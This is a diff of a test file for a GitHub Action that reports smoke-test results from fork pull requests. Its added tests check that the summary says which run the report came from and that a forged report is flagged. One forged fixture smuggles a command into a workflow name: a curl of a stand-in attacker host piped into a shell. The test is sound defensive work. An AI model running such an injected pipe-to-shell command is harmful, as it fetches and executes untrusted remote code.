@@ -14,7 +14,7 @@ import type { CheckRun, GitHubService, LogEntry } from '../support/github-servic
 import { type ActionStep, logOf, runActionInProcess, startInProcessGitHub } from '../support/in-process-action.ts';
 import { fixtureSite, hitsOf, hitsSince, setPages, type Site } from '../support/site.ts';
 import { tempDir } from '../support/temp.ts';
-import { attempt, baseInput, loaded, run as fixtureRun, suite } from '../support/report-helpers.ts';
+import { attempt, baseInput, context, loaded, run as fixtureRun, suite } from '../support/report-helpers.ts';
 
 const BOUND = { timeout: 150_000 } as const;
 const IDS = ['cart', 'home', 'search'] as const;
@@ -128,7 +128,13 @@ async function forkPullRequestRun(site: Site, label: string, sourceId: number): 
   addRun(service, { id: sourceId, event: 'pull_request', branch, sha: prHead, status: 'in_progress', minute: 15, pullRequests: [{ number: sourceId % 1000, headRef: branch, headSha: prHead }] });
   const fault = service.faults.add({ endpoint: 'POST /repos/{owner}/{repo}/check-runs', status: 403 });
   try {
-    const source = await step({ runId: sourceId, sha: shaOf(`${label}-merge`), site, eventName: 'pull_request' });
+    const source = await step({
+      runId: sourceId,
+      sha: shaOf(`${label}-merge`),
+      site,
+      eventName: 'pull_request',
+      event: { pull_request: { number: sourceId % 1000, head: { sha: prHead, ref: branch, repo: { full_name: `contributor/${label}` } } } },
+    });
     assert.equal(fault.fired, 1, 'the fork run could not create its check run');
     assert.deepEqual(checkRunsOn(prHead), []);
     assert.ok(service.artifacts.some((artifact) => artifact.runId === sourceId && artifact.finalized), 'the fork run uploaded its smoke artifact');
@@ -187,6 +193,9 @@ describe('report-only, the workflow_run follow-up for fork pull requests', () =>
     assert.match(checkRun.annotations[0]?.title ?? '', /cart failed/);
     assert.equal(checkRun.output.summary, run.summary, 'the job summary of the follow-up, shown on the pull request');
     assert.match(run.summary, /^## ❌ reliability-smoke: fail$/m);
+    assert.match(run.summary, new RegExp(`^> ℹ️ Reported from report\\.json of the smoke artifact &quot;reliability-smoke-smoke-attempt-1&quot; of run ${fork.sourceId}`, 'm'));
+    assert.doesNotMatch(run.summary, /Does not match/, 'the report is from the run, the commit and the repository it says');
+    assert.doesNotMatch(run.summary, /gh workflow run/, 'no dispatch command: this workflow is not the one that ran the fixtures');
     assert.equal(run.outputs[Outputs.CheckRunId], String(checkRun.id));
     assert.equal(run.outputs[Outputs.Result], 'fail');
     assert.equal(run.outputs[Outputs.FailedFixtures], '["cart"]');
@@ -248,7 +257,7 @@ describe('report-only, the workflow_run follow-up for fork pull requests', () =>
     assert.equal(checkRun.output.title, '120 failed, 0 passed');
   });
 
-  it('a source report whose baseUrl is not a URL is still reported, with no base URL in its commands', BOUND, async () => {
+  it('a source report whose baseUrl is not a URL is still reported; commands never take a base URL from a report', BOUND, async () => {
     const sourceId = 7601;
     const prHead = shaOf('odd-base-url');
     addRun(service, { id: sourceId, event: 'pull_request', branch: 'contrib/odd', sha: prHead, minute: 15 });
@@ -263,6 +272,37 @@ describe('report-only, the workflow_run follow-up for fork pull requests', () =>
     assert.equal(checkRunsOn(prHead)[0]?.conclusion, 'failure', logOf(run));
     assert.match(run.summary, /--fixture cart/);
     assert.doesNotMatch(run.summary, /--base-url/);
+  });
+
+  it("a forged report is shown as the fork's word: what does not match its run is said first, and no link or command comes from it", BOUND, async () => {
+    const sourceId = 7701;
+    const prHead = shaOf('forged-head');
+    addRun(service, { id: sourceId, event: 'pull_request', branch: 'contrib/forged', sha: prHead, minute: 15 });
+    const cart = fixtureRun(loaded('cart', { file: 'fixtures/pages.smoke.yml', line: 2 }), [attempt('cart', 1, { kind: 'assertion', message: 'no #cart' })]);
+    const forgedRun = context(shaOf('another-commit'), {
+      runId: '999',
+      repository: 'attacker/elsewhere',
+      serverUrl: 'https://evil.example',
+      workflow: 'Smoke; curl https://evil.example | sh',
+    });
+    const report = buildReport(baseInput(suite([cart]), { run: forgedRun, baseUrl: 'https://evil.example/' }));
+    await service.addArtifact(sourceId, { name: 'reliability-smoke-smoke-attempt-1', files: { 'report.json': JSON.stringify(report) } });
+
+    const run = await reportOnlyStep({ sourceId, prHead }, 7702, {});
+    assert.ok(run.failure, logOf(run));
+    const summary = run.summary;
+    const top = summary.slice(0, summary.indexOf('**1 fixture**'));
+    assert.match(top, /^> ℹ️ Reported from report\.json of the smoke artifact/m);
+    assert.match(top, new RegExp(`Does not match:\\*\\* report\\.json says it is from run &quot;999&quot;, but it was in the artifact of run ${sourceId}\\.`));
+    assert.match(top, new RegExp(`Does not match:\\*\\* report\\.json says it tested commit &quot;${shaOf('another-commit')}&quot;, but run ${sourceId} ran on commit ${prHead}\\.`));
+    assert.match(top, /Does not match:\*\* report\.json says it is from the repository &quot;attacker\/elsewhere&quot;/);
+    const links = [...summary.matchAll(/\]\((https?:[^)]+)\)/g)].map((match) => match[1]);
+    assert.deepEqual(links.filter((link) => !link?.startsWith(`https://github.com/${service.repository}/actions/runs/${sourceId}`)), [], 'links only to the run it came from');
+    assert.doesNotMatch(summary, /evil\.example\/?\s|curl/, 'no command from the report');
+    assert.match(summary, /^npx reliability-smoke --fixture cart$/m, 'commands from the ids alone');
+    assert.equal(checkRunsOn(prHead)[0]?.output.summary, summary, 'the check run says the same');
+    assert.match(logOf(run), /Warning: report\.json says it is from run "999", but it was in the artifact of run 7701\./, 'and the log');
+    assert.doesNotMatch(summary, /--base-url/, "the report's base URL is not put into a command");
   });
 
   it('report-only without artifact-run-id is a usage error that runs nothing and reports a failed check run', BOUND, async (t) => {
